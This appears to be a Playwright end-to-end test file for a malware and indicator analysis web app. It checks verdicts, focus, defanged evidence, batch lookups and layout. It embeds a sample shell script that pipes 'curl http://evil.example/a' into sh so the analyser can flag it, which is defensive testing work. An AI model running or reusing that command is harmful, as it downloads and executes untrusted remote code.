"""Analyses in a browser: a dropped file, answers that come in by themselves, lists, what would be sent."""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import OpenPage, check_page

_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/a | sh\n"
_SLOWLY = 60_000


def _drop_script(page: Page) -> None:
    page.set_input_files("#analyze-file", {"name": "a.sh", "mimeType": "text/plain", "buffer": _SCRIPT})
    page.wait_for_url(re.compile(r"/analyses/[0-9a-f-]{36}$"))


def _wait_for_end(page: Page) -> None:
    page.wait_for_selector("#analysis-poll[data-said]", state="attached", timeout=_SLOWLY)


def test_a_dropped_file_is_judged_while_one_looks_and_what_is_open_stays_open(open_page: OpenPage) -> None:
    page = open_page("/analyses")
    check_page(page)
    _drop_script(page)
    copy = page.get_by_role("button", name="Copy").first
    copy.focus()
    _wait_for_end(page)
    expect(page.locator("#part-verdict .verdict")).to_have_text(re.compile("Suspicious|Malicious"))
    expect(page.locator("#live")).to_have_text(re.compile("done: (suspicious|malicious)"))
    expect(copy).to_be_focused()
    expect(page.locator(".evidence-item").first).to_contain_text("evil[.]example")
    page.locator("#raw-source-file summary").click()
    page.wait_for_selector("#raw-source-file pre")
    check_page(page)
    with page.expect_download() as download:
        page.get_by_role("link", name="Sample").click()
    assert download.value.suggested_filename.endswith(".zip")


@pytest.mark.parametrize(("width", "theme"), [(375, "light"), (1440, "dark")])
def test_lists_providers_and_rules_are_fit_for_phones_and_the_dark(
    open_page: OpenPage, width: int, theme: str
) -> None:
    page = open_page("/analyses", theme=theme, width=width)
    page.get_by_label("Values, one a line").fill("b.example\n198.51.100[.]7")
    page.get_by_role("button", name="What would be sent?").click()
    expect(page.get_by_role("article", name="What would be sent about b[.]example")).to_contain_text(
        "Nobody is asked"
    )
    check_page(page)
    page.get_by_role("button", name="Analyse", exact=True).click()
    page.wait_for_url(re.compile("batch="))
    assert page.locator("tbody th .observable-value").all_inner_texts() == ["b[.]example", "198.51.100[.]7"]
    expect(page.get_by_text("going on")).to_have_count(0, timeout=_SLOWLY)
    check_page(page)
    page.locator("tbody th a").first.click()
    _wait_for_end(page)
    check_page(page)
    for path in ("/providers", "/providers/virustotal", "/analyses/rules"):
        page.goto(path)
        check_page(page)
